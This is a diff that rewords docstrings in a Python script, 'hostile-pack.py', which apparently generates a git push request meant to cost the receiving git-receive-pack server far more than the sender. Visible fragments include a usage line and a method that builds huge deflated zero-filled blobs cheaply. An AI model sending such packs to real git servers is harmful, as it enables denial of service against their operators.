@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""A push that costs its receiver far more than it costs its sender: the request of a client to git-receive-pack.
+"""Prints a push that costs its receiver far more than its sender: a request to git-receive-pack.
 
     hostile-pack.py KIND [COUNT] >request          git receive-pack REPO <request, or through ssh
 
@@ -23,7 +23,7 @@ COPY_MAX = 0xffffff
 
 
 class Pack:
-    """Objects one by one to the output; `objects` is how many there will be."""
+    """Writes objects one by one to the output; `objects` is their number."""
 
     def __init__(self, out, objects):
         self.out, self.sha = out, hashlib.sha1()
@@ -48,7 +48,7 @@ class Pack:
         return hashlib.sha1(NAMES[kind] + b" %d\0" % len(data) + data).digest()
 
     def zeros(self, mark, mib):
-        """A blob: mark, then zeros, deflated without going through them all."""
+        """Writes a blob: mark, then zeros, deflated without reading them all."""
         piece = zlib.compressobj(9, zlib.DEFLATED, -15)
         zeros = piece.compress(bytes(MIB)) + piece.flush(zlib.Z_FULL_FLUSH)
         a = zlib.adler32(mark)
